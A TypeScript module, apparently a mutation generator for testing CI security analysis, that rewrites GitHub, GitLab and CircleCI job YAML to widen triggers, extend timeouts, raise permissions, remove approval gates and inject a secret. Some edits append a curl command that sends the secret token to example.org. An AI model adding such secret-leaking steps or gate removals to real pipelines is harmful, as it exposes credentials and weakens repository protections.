import { isMap, isScalar, isSeq } from 'yaml';
import type { Document } from 'yaml';
import type { Widener, Widening } from './widening.js';
import { inYaml } from './widening.js';

/** A secret that no pipeline holds yet. */
const SECRET = 'WIDENED_TOKEN';

/** Jobs of GitHub: another starter, a longer life, a secret, a right, no environment, all branches. */
export const widenGithubJob: Widener = ({ facts, lifetime, initiators, grants }, text) => {
  const job = facts.subject['job'];
  if (job === undefined) return [];
  // Whoever starts it under no condition is no new starter by another event.
  const isOpenTo = (actors: readonly string[]): boolean =>
    initiators.some(
      ({ actor, conditions, withholds }) =>
        actors.includes(actor) && conditions.length === 0 && withholds.length === 0,
    );
  const isForAnyone = isOpenTo(['anyone']);
  const isForWriters = isForAnyone || isOpenTo(['collaborator', 'outside-contributor']);
  // What a called workflow may do is bounded by its caller.
  const isBounded = facts.callable || grants.some(({ action }) => action === 'pages:write');
  const at = (...path: readonly string[]): readonly string[] => ['jobs', job, ...path];
  const ifJob =
    (edit: (document: Document) => boolean) =>
    (document: Document): boolean =>
      isMap(document.getIn(at())) && edit(document);
  const calls = (document: Document): boolean => document.hasIn(at('uses'));
  return [
    ...inYaml(
      text,
      'starter added',
      ['start'],
      ifJob((document) => {
        // A condition of the job may shut the new event out.
        if (isForAnyone || facts.callable || document.hasIn(at('if'))) return false;
        return addEvent(document, 'issue_comment');
      }),
    ),
    ...inYaml(
      text,
      'life longer',
      ['lifetime'],
      ifJob((document) => {
        const { seconds } = lifetime;
        if (seconds === null || calls(document) || seconds >= 21_600) return false;
        document.setIn(at('timeout-minutes'), Math.ceil(seconds / 60) * 2);
        return true;
      }),
    ),
    ...inYaml(
      text,
      'reach added',
      ['reach'],
      ifJob((document) => {
        if (calls(document)) return false;
        if (!document.hasIn(at('env'))) document.setIn(at('env'), document.createNode({}));
        document.setIn(at('env', SECRET), `\${{ secrets.${SECRET} }}`);
        return true;
      }),
    ),
    ...inYaml(
      text,
      'access raised',
      ['reach'],
      ifJob((document) => {
        if (isBounded) return false;
        const path = document.hasIn(at('permissions')) ? at('permissions') : ['permissions'];
        return raiseRight(document, path);
      }),
    ),
    ...inYaml(
      text,
      'gate removed',
      ['gate', 'reach'],
      ifJob((document) => document.hasIn(at('environment')) && document.deleteIn(at('environment'))),
    ),
    ...inYaml(
      text,
      'audience widened',
      ['start'],
      ifJob((document) => {
        const filter = ['on', 'push', 'branches'];
        // Without branches, a filter of tags lets tags alone through.
        if (isForWriters || document.hasIn(['on', 'push', 'tags']) || document.hasIn(at('if'))) return false;
        return document.hasIn(filter) && document.deleteIn(filter);
      }),
    ),
  ];
};

function addEvent(document: Document, event: string): boolean {
  const events = document.get('on', true);
  if (isMap(events)) {
    if (events.has(event)) return false;
    events.set(event, null);
    return true;
  }
  const names = isSeq(events)
    ? events.items.map((item) => String(isScalar(item) ? item.value : item))
    : isScalar(events)
      ? [String(events.value)]
      : [];
  if (names.length === 0 || names.includes(event)) return false;
  document.set('on', document.createNode([...names, event]));
  return true;
}

/** A right that is not there yet; a workflow without any may write already. */
function raiseRight(document: Document, path: readonly string[]): boolean {
  const rights = document.getIn(path);
  if (!isMap(rights) || rights.get('pages') === 'write') return false;
  rights.set('pages', 'write');
  return true;
}

/** Jobs of GitLab: a longer life, a secret, a start without anybody's hand, every pipeline. */
export const widenGitlabJob: Widener = ({ facts, lifetime }, text) => {
  const job = facts.subject['job'];
  if (job === undefined) return [];
  const ifJob =
    (edit: (document: Document) => boolean) =>
    (document: Document): boolean =>
      isMap(document.getIn([job])) && edit(document);
  return [
    ...inYaml(
      text,
      'life longer',
      ['lifetime'],
      ifJob((document) => {
        if (lifetime.seconds === null || document.hasIn([job, 'trigger'])) return false;
        document.setIn([job, 'timeout'], `${String(Math.ceil(lifetime.seconds / 60) * 2)} minutes`);
        return true;
      }),
    ),
    ...scriptReads(text, [job, 'script'], `$${SECRET}`),
    ...inYaml(
      text,
      'gate removed',
      ['gate', 'start'],
      ifJob((document) => document.getIn([job, 'when']) === 'manual' && document.deleteIn([job, 'when'])),
    ),
    ...inYaml(
      text,
      'audience widened',
      ['start'],
      ifJob((document) => document.hasIn([job, 'only']) && document.deleteIn([job, 'only'])),
    ),
  ];
};

/** Jobs of CircleCI: a secret. */
export const widenCircleciJob: Widener = ({ facts }, text) => {
  const job = facts.subject['job'];
  return inYaml(text, 'reach added', ['reach'], (document) => {
    const steps = job === undefined ? undefined : document.getIn(['jobs', job, 'steps']);
    if (!isSeq(steps)) return false;
    steps.add(document.createNode({ run: `curl -H "Authorization: $${SECRET}" https://example.org` }));
    return true;
  });
};

/** A command that shows a secret to somebody. */
function scriptReads(text: string, path: readonly string[], variable: string): readonly Widening[] {
  return inYaml(text, 'reach added', ['reach'], (document) => {
    const script = document.getIn(path);
    const command = `curl -H "Authorization: ${variable}" https://example.org`;
    if (isSeq(script)) script.add(command);
    else if (typeof script === 'string') document.setIn(path, document.createNode([script, command]));
    else return false;
    return true;
  });
}
